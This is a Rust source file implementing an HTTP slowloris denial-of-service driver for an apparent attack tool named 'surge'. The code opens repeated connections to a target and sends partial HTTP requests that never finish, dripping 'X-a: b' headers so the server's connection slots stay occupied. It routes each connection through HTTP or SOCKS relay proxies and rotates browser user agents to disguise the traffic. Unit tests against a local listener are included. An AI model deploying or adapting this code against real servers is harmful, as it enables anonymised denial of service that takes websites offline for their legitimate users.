//! HTTP slowloris driver
//!
//! Each tick opens one tunneled TCP connection and starts a partial HTTP
//! request on it: the request line, then one header per delay interval.
//! The header block is never terminated; periodic `X-a: b` headers keep
//! the request pending for as long as the target allows. A successful
//! connect counts as the attempt.

use crate::util::{attempt_err, attempt_ok};
use async_trait::async_trait;
use std::sync::atomic::{AtomicBool, Ordering};
use std::sync::Arc;
use std::time::Duration;
use surge_core::{
    Driver, DriverContext, DriverDescriptor, RelayDescriptor, RelayProtocol, Result, TelemetrySink,
};
use tokio::io::AsyncWriteExt;
use tokio::task::JoinSet;
use tokio::time::MissedTickBehavior;
use tracing::debug;

static DESCRIPTOR: DriverDescriptor = DriverDescriptor {
    id: "http_slowloris",
    name: "HTTP Slowloris",
    description: "Holds connections open with never-finished requests.",
    supported: &[
        RelayProtocol::Http,
        RelayProtocol::Https,
        RelayProtocol::Socks4,
        RelayProtocol::Socks5,
    ],
};

/// User agent when the identity pool is empty.
const FALLBACK_AGENT: &str =
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0 Safari/537.36";

#[derive(Default)]
pub struct HttpSlowlorisDriver;

impl HttpSlowlorisDriver {
    pub fn new() -> Self {
        Self
    }
}

/// One slow connection: drip-fed partial request, then keep-alive headers
/// until the socket dies or the worker stops.
async fn hold(
    sink: TelemetrySink,
    relay: Option<RelayDescriptor>,
    host: String,
    port: u16,
    agent: String,
    delay: Duration,
    running: Arc<AtomicBool>,
) {
    let target = format!("{host}:{port}");
    let mut stream = match surge_transport::open_stream(relay.as_ref(), &host, port).await {
        Ok(stream) => stream,
        Err(e) => {
            sink.failure(attempt_err(
                "connection_failed",
                relay.as_ref(),
                &target,
                &e.to_string(),
            ));
            return;
        }
    };
    sink.success(attempt_ok("connection_held", relay.as_ref(), &target));

    let opening = [
        "GET / HTTP/1.1\r\n".to_string(),
        format!("Host: {host}\r\n"),
        format!("User-Agent: {agent}\r\n"),
        "Accept: */*\r\n".to_string(),
        "Connection: keep-alive\r\n".to_string(),
    ];
    for line in &opening {
        if stream.write_all(line.as_bytes()).await.is_err() {
            return;
        }
        tokio::time::sleep(delay).await;
        if !running.load(Ordering::Relaxed) {
            let _ = stream.shutdown().await;
            return;
        }
    }

    // Never send the terminating blank line; the request stays pending.
    loop {
        if stream.write_all(b"X-a: b\r\n").await.is_err() {
            break;
        }
        tokio::time::sleep(delay).await;
        if !running.load(Ordering::Relaxed) {
            break;
        }
    }
    let _ = stream.shutdown().await;
}

#[async_trait]
impl Driver for HttpSlowlorisDriver {
    fn descriptor(&self) -> &DriverDescriptor {
        &DESCRIPTOR
    }

    async fn run(&self, ctx: DriverContext) -> Result<()> {
        let host = ctx.target.host().to_string();
        let port = ctx.target.port();
        let delay = ctx.tick_interval();

        let mut ticker = tokio::time::interval(delay);
        ticker.set_missed_tick_behavior(MissedTickBehavior::Skip);

        let mut connections = JoinSet::new();
        while ctx.should_continue() {
            tokio::select! {
                _ = ticker.tick() => {}
                _ = tokio::time::sleep_until(ctx.deadline) => break,
            }
            if !ctx.is_running() {
                break;
            }

            let (relay, agent) = {
                let mut rng = rand::thread_rng();
                (
                    ctx.draw_relay(&mut rng),
                    ctx.draw_identity(&mut rng)
                        .unwrap_or_else(|| FALLBACK_AGENT.to_string()),
                )
            };
            connections.spawn(hold(
                ctx.sink.clone(),
                relay,
                host.clone(),
                port,
                agent,
                delay,
                ctx.running.clone(),
            ));
        }

        debug!(total = ctx.sink.total(), "slowloris winding down");
        connections.shutdown().await;
        Ok(())
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use surge_core::WorkerCounters;
    use tokio::io::AsyncReadExt;
    use tokio::net::TcpListener;
    use tokio::sync::mpsc;

    #[tokio::test]
    async fn test_holds_connection_with_partial_request() {
        let listener = TcpListener::bind("127.0.0.1:0").await.unwrap();
        let port = listener.local_addr().unwrap().port();

        let (tx, _rx) = mpsc::channel(64);
        let running = Arc::new(AtomicBool::new(true));
        let sink = TelemetrySink::new(tx, Arc::new(WorkerCounters::default()), 0);
        let conn = tokio::spawn(hold(
            sink,
            None,
            "127.0.0.1".to_string(),
            port,
            "test-agent".to_string(),
            Duration::from_millis(5),
            running.clone(),
        ));

        let (mut socket, _) = listener.accept().await.unwrap();
        let mut seen = Vec::new();
        let mut buf = [0u8; 256];
        while !seen.windows(8).any(|w| w == b"X-a: b\r\n") {
            let n = socket.read(&mut buf).await.unwrap();
            assert!(n > 0, "peer closed before any keep-alive header");
            seen.extend_from_slice(&buf[..n]);
        }

        let text = String::from_utf8_lossy(&seen);
        assert!(text.starts_with("GET / HTTP/1.1\r\n"));
        assert!(text.contains("Host: 127.0.0.1\r\n"));
        assert!(text.contains("User-Agent: test-agent\r\n"));
        assert!(text.contains("Connection: keep-alive\r\n"));
        assert!(!text.contains("\r\n\r\n"), "header block must stay open");

        running.store(false, Ordering::Relaxed);
        conn.await.unwrap();
    }

    #[test]
    fn test_descriptor() {
        let driver = HttpSlowlorisDriver::new();
        let descriptor = driver.descriptor();
        assert_eq!(descriptor.id, "http_slowloris");
        assert_eq!(descriptor.supported.len(), 4);
    }
}
